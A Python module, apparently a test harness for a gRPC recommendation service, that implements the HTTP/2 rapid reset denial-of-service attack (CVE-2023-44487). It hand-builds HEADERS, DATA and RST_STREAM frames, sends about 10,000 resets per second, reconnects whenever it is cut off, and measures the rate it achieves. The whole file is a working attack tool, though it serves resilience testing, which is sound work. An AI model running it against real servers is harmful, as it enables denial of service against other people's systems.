"""A client that opens calls and resets them at once, as in the rapid reset attack on HTTP/2.

(CVE-2023-44487.) No gRPC library calls so fast, so this one writes the frames of HTTP/2 (RFC 9113)
itself: for each call HEADERS, DATA with an empty message, and RST_STREAM.
"""

import multiprocessing
import socket
import struct
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from multiprocessing.sharedctypes import Synchronized
from typing import Final

METHOD: Final = b"/tandem.v1.RecommendationService/Recommend"
PER_SECOND: Final = 10_000
BURST_SECONDS: Final = 0.01

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING = 0x0, 0x1, 0x3, 0x4, 0x6
_END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4
_CANCEL: Final = struct.pack(">I", 0x8)
_LAST_STREAM: Final = 2**31 - 1


@dataclass
class Resets:
    """What such a client did."""

    per_second: float = 0.0


@contextmanager
def resetting(address: str, per_second: int = PER_SECOND) -> Iterator[Resets]:
    """Runs one in a process of its own, for as long as the block takes.

    Yields:
        What it did, once the block is over.
    """
    context = multiprocessing.get_context("spawn")
    count = context.Value("Q", 0)
    process = context.Process(target=reset_on, args=(address, per_second, count), daemon=True)
    process.start()
    while not count.value:
        if not process.is_alive():
            raise ChildProcessError("the resetting client ended")
        time.sleep(0.01)
    started, resets = time.perf_counter(), Resets()
    before = count.value
    try:
        yield resets
    finally:
        resets.per_second = (count.value - before) / (time.perf_counter() - started)
        process.terminate()
        process.join()


def reset_on(address: str, per_second: int, count: "Synchronized[int]") -> None:
    """Opens and resets calls forever; connects again whenever it is cut off."""
    host, _, port = address.rpartition(":")
    while True:
        with suppress(ConnectionError), socket.create_connection((host, int(port))) as connection:
            _reset_until_cut_off(connection, per_second, count)


def _reset_until_cut_off(
    connection: socket.socket, per_second: int, count: "Synchronized[int]"
) -> None:
    connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
    reader = Reader(connection)
    stream, burst = 1, max(1, round(per_second * BURST_SECONDS))
    due = time.perf_counter()
    while stream + 2 * burst < _LAST_STREAM:
        connection.sendall(reader.replies() + b"".join(call(stream + 2 * i) for i in range(burst)))
        stream += 2 * burst
        count.value += burst
        due += BURST_SECONDS
        time.sleep(max(0.0, due - time.perf_counter()))


class Reader:
    """Reads what a server sends, to answer what must be answered."""

    def __init__(self, connection: socket.socket) -> None:
        self._connection = connection
        self._buffer = bytearray()

    def replies(self) -> bytes:
        """The answers to the SETTINGS and PINGs that have come.

        Raises:
            ConnectionError: the server closed the connection.
        """
        with suppress(BlockingIOError):
            while True:
                read = self._connection.recv(65_536, socket.MSG_DONTWAIT)
                if not read:
                    raise ConnectionResetError
                self._buffer += read
        replies = b""
        while len(self._buffer) >= 9:
            length = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + length:
                break
            kind, flags, payload = self._buffer[3], self._buffer[4], self._buffer[9 : 9 + length]
            del self._buffer[: 9 + length]
            if kind in (_SETTINGS, _PING) and not flags & _ACK:
                replies += frame(kind, _ACK, 0, bytes(payload) if kind == _PING else b"")
        return replies


def call(stream: int) -> bytes:
    """The frames of a call that is opened, sent and reset."""
    return (
        frame(_HEADERS, _END_HEADERS, stream, _HEADER_BLOCK)
        + frame(_DATA, _END_STREAM, stream, bytes(5))
        + frame(_RST_STREAM, 0, stream, _CANCEL)
    )


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: bytes) -> bytes:
    return bytes([len(value)]) + value


# HPACK (RFC 7541): indexed fields of the static table, and literals that are not indexed.
_HEADER_BLOCK: Final = b"".join(
    [
        b"\x83",  # :method: POST
        b"\x86",  # :scheme: http
        b"\x04" + _text(METHOD),  # :path
        b"\x01" + _text(b"localhost"),  # :authority
        b"\x0f\x10" + _text(b"application/grpc"),  # content-type
        b"\x00" + _text(b"te") + _text(b"trailers"),
    ]
)
